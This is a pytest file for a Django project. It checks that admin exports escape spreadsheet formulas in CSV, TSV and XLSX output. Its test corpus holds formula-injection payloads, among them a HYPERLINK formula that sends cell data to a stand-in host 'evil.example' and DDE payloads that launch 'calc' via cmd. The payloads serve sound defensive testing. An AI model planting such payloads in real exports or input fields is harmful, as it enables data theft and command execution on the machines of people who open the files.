"""Every admin export (django-import-export) escapes formulas like the staff pages' exports: a text cell
starting with "=", "+", "-", "@", tab or carriage return never reaches the spreadsheet as a formula."""

import csv
import io
import itertools

import openpyxl
import pytest
from django.contrib import admin
from django.db import models

from accounts.models import Role
from accounts.tests.factories import UserFactory
from core.admin_exports import ESCAPED_FORMATS, SafeExportMixin
from core.spreadsheets import FORMULA_PREFIXES
from tests.test_admin import ROW_FACTORIES, _url

pytestmark = pytest.mark.django_db

CORPUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    '==HYPERLINK("http://evil.example/","x")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

EXPORTING = sorted(
    (model for model, model_admin in admin.site._registry.items() if hasattr(model_admin, "export_action")),
    key=lambda model: model._meta.label,
)


@pytest.fixture
def staff_client(client):
    client.force_login(UserFactory(roles=[Role.STAFF], is_superuser=True))
    return client


def _fill_text_fields_with_the_corpus(instance) -> None:
    values = itertools.cycle(CORPUS)
    updates = {
        field.name: next(values)[: field.max_length or None]
        for field in instance._meta.concrete_fields
        if isinstance(field, (models.CharField, models.TextField)) and not field.choices and not field.primary_key
    }
    type(instance).objects.filter(pk=instance.pk).update(**updates)
    for relation in instance._meta.concrete_fields:  # the exports also show the related rows' names
        if isinstance(relation, models.ForeignKey) and getattr(instance, relation.name, None) is not None:
            related = getattr(instance, relation.name)
            related_updates = {
                field.name: CORPUS[0][: field.max_length or None]
                for field in related._meta.concrete_fields
                if isinstance(field, (models.CharField, models.TextField))
                and not field.choices
                and not field.primary_key
                and not field.unique
                and field.name in ("name", "first_name", "last_name", "title")
            }
            if related_updates:
                type(related).objects.filter(pk=related.pk).update(**related_updates)


def _export(client, model, format_index: int) -> bytes:
    url = _url(model, "export")
    form = client.get(url).context["form"]
    data = {"format": str(format_index), "resource": "0"}
    data.update({name: "on" for name in form.fields if name not in ("format", "resource", "export_items")})
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def _cells(content: bytes, format_class) -> list[str]:
    if format_class.__name__ == "EscapedXLSX":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        return [cell for row in sheet.iter_rows(values_only=True) for cell in row if isinstance(cell, str)]
    if format_class.__name__ in ("EscapedCSV", "EscapedTSV"):  # noqa: RET503
        delimiter = "\t" if format_class.__name__ == "EscapedTSV" else ","
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter) for cell in row]
    raise AssertionError(f"no reader for {format_class.__name__}")


def test_every_exporting_admin_uses_the_escaped_formats_only():
    assert EXPORTING, "no admin exports: this test would prove nothing"
    for model in EXPORTING:
        model_admin = admin.site._registry[model]
        assert isinstance(model_admin, SafeExportMixin), model
        assert {type(f()) for f in model_admin.get_export_formats()} <= set(ESCAPED_FORMATS), model


@pytest.mark.parametrize("model", EXPORTING, ids=lambda model: model._meta.label)
@pytest.mark.parametrize("format_index", range(len(ESCAPED_FORMATS)), ids=[f.__name__ for f in ESCAPED_FORMATS])
def test_the_formula_corpus_comes_out_escaped_from_every_admin_export(staff_client, model, format_index):
    row = ROW_FACTORIES[model]()
    _fill_text_fields_with_the_corpus(row)

    content = _export(staff_client, model, format_index)

    format_class = admin.site._registry[model].get_export_formats()[format_index]
    cells = _cells(content, format_class)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
    assert [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)] == []
